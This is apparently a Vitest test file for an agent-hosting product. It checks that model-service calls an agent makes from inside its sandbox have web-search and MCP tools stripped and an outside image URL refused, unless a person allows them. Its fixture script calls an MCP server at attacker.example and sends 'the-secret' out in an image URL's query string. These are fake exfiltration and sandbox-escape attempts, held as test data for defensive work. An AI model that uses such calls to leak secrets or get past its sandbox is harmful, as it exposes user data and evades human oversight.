import { afterAll, beforeAll, expect, it } from 'vitest'
import { ModelServer } from '../tests/support/model-server/model-server.ts'
import { addKey } from './support/keys.ts'
import { Product } from './support/product.ts'
import { describeProduct } from './support/requirements.ts'
import { addShop, listLog, startRun, untilRun } from './support/work.ts'

/** What an agent can start in its sandbox: calls of its own to the model service, with what Codex declares. */
const caller = `
const call = async (body) => {
  const response = await fetch('http://127.0.0.1:41003/v1/responses', {
    method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'scripted-1', ...body }),
  })
  console.log('ANSWER', response.status, await response.text())
}
const own = { type: 'function', name: 'exec_command', parameters: {} }
await call({ input: 'FROM INSIDE', tools: [own, { type: 'web_search', external_web_access: true }] })
await call({ input: 'FROM INSIDE', tools: [own, { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example' }] })
const image = { type: 'input_image', image_url: 'https://attacker.example/?q=the-secret' }
await call({ input: [{ role: 'user', content: [{ type: 'input_text', text: 'FROM INSIDE' }, image] }] })
`
const scripts = { reaches: [{ act: { kind: 'run' as const, command: 'node caller.mjs' } }, { say: 'I tried.' }] }

describeProduct('the network of the model service', () => {
  const product = new Product()
  const model = new ModelServer(scripts)
  beforeAll(async () => {
    await model.start()
    await product.start()
    await addKey(product, 'scripted', { server: model, wire: 'openai' })
  })
  afterAll(async () => {
    await product.stop()
    await model.stop()
  })

  /** What arrived of the calls from inside, and the log. */
  async function runCaller(name: string, settings: { providerTools?: 'allow' | 'remove' }) {
    const before = model.calls.length
    const own = { agent: 'builtin', model: 'scripted-1', ...settings }
    const project = await addShop(product, name, { settings: own, files: { 'caller.mjs': caller } })
    const run = await startRun(product, project, { workflow: 'code', description: 'SCRIPT: reaches' })
    await untilRun(product, run, 'succeeded', 'failed')
    const arrived = model.calls.slice(before).filter(({ path }) => path === '/v1/responses')
    return { bodies: arrived.map(({ body }) => body), log: (await listLog(product, run)).map(({ message }) => message) }
  }

  it('is closed to an agent: tools are left out, an address to fetch is refused, and the log says so once', async () => {
    const { bodies, log } = await runCaller('closed', {})
    expect(bodies).toHaveLength(2)
    for (const body of bodies) {
      expect(JSON.parse(body)).toMatchObject({ tools: [{ type: 'function', name: 'exec_command' }] })
      expect(body).not.toMatch(/web_search|mcp|attacker/)
    }
    // What two calls leave in the log comes by two ways, in any order.
    const said = log.filter((line) => /^(Left out|A model call was refused)/.test(line)).toSorted()
    expect(said).toEqual([
      expect.stringContaining('(image_url)'),
      expect.stringContaining('Left out of model calls: mcp.'),
      expect.stringContaining('Left out of model calls: web_search.'),
    ])
  })

  it('is open where a person says so', async () => {
    const { bodies, log } = await runCaller('open', { providerTools: 'allow' })
    expect(bodies).toHaveLength(3)
    for (const [index, expected] of ['web_search', 'mcp', 'the-secret'].entries())
      expect(bodies[index]).toContain(expected)
    expect(log.join('\n')).not.toMatch(/Left out of model calls|was refused/)
  })
})
